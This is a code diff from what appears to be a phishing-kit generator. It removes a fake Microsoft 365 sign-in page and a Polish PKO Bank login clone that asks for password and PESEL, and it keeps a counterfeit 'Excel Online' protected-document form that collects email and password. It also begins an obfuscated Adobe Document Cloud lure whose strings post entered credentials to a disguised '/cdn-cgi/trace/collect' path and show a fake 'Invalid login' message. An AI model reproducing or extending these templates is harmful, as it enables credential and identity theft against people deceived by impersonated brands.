@@ -3,16 +3,9 @@ import { htmlRoute } from '../entry.js';
 import { doc, b64, charCodes, xorHex, imgRoute } from '../parts/r-kit.js';
 import { jsRoute } from '../parts/e-bin.js';
 
-const m365Inner = `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#e6e6e6}.bx{width:440px;margin:100px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px}button{background:#0067b8;color:#fff;border:0;padding:8px 32px;float:right;margin-top:24px}</style>
-<div class="bx"><img src="/x/ms.png" width="108" height="24" alt="Microsoft"><h2 style="font-weight:600">Sign in</h2><p style="font-size:13px">Verify your account to view the secure message from your administrator.</p>
-<form id="k"><input id="a" type="email" placeholder="someone@example.com"><br><br><input id="b" type="password" placeholder="Password"><button>Sign in</button></form><div style="clear:both"></div></div>`;
-
 const excelForm = `<div style="font-family:Segoe UI,Arial;max-width:420px;margin:70px auto;border:1px solid #ccc;padding:28px;background:#fff"><div style="background:#217346;color:#fff;padding:8px 12px;font-weight:600">Excel Online</div>
 <h3>Purchase_Order_PO-77821.xlsx</h3><p style="font-size:13px;color:#555">This document is protected. Confirm your email credentials to open.</p>
 <input id="eml" style="width:100%;padding:9px;margin:5px 0" placeholder="Email"><input id="pwd" type="password" style="width:100%;padding:9px;margin:5px 0" placeholder="Password"><button id="go" style="width:100%;padding:10px;background:#217346;color:#fff;border:0">Open document</button></div>`;
-
-const pkoInner = `<div class="t">PKO Bank Polski</div><div class="b"><h2>Logowanie do serwisu iPKO</h2><p class="w">Wykryliśmy nieautoryzowane logowanie. Twoje konto zostało tymczasowo zablokowane. Zaloguj się, aby potwierdzić tożsamość.</p>
-<form id="pf"><label>Numer klienta lub login</label><input name="login"><label>Hasło</label><input name="haslo" type="password"><label>PESEL</label><input name="pesel"><label>Numer telefonu</label><input name="tel"><button>Dalej</button></form></div>`;
 
 const adobeKitJs = (() => {
   const strs = ['createElement', 'innerHTML', 'body', 'appendChild', 'POST', '/cdn-cgi/trace/collect', 'Adobe Document Cloud', 'Confirm your email identity to download the shared PDF', 'email', 'password', 'Download PDF', 'value', 'then', 'Invalid login, please retry', 'querySelector'];
